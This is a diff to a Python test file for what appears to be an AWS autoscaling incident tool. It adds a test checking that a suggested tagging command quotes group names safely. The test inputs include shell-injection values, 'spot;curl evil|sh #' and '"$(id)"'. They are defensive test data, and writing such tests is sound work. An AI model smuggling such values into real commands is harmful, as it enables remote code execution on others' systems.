@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import shlex
 from typing import Any
 
 import pytest
@@ -202,6 +204,15 @@ def test_a_refusal_by_iam_is_told_once_and_tried_again(look, bus):
     assert states(bus) == ["open"]
     assert look(at + 300, None, again) == ([], ["complete"])
     assert states(bus) == ["open", "resolved"]
+
+
+@pytest.mark.parametrize("name", ["spot", "spot;curl evil|sh #", "it's, mine", '"$(id)"'])
+def test_the_command_to_copy_gives_the_groups_name_to_aws_and_nothing_to_the_shell(look, bus, name):
+    look(BEGAN + 5, DENIED, replace(WATCHED, hook=replace(HOOK, group=name)))
+    [told] = bus.details
+    *words, tags = shlex.split(told["next_steps"][0]["command"])
+    assert words == ["aws", "autoscaling", "create-or-update-tags", "--tags"]
+    assert [tag["ResourceId"] for tag in json.loads(tags)] == [name]
 
 
 def test_of_several_instances_of_a_group_the_last_one_closes_the_incident(look, bus):
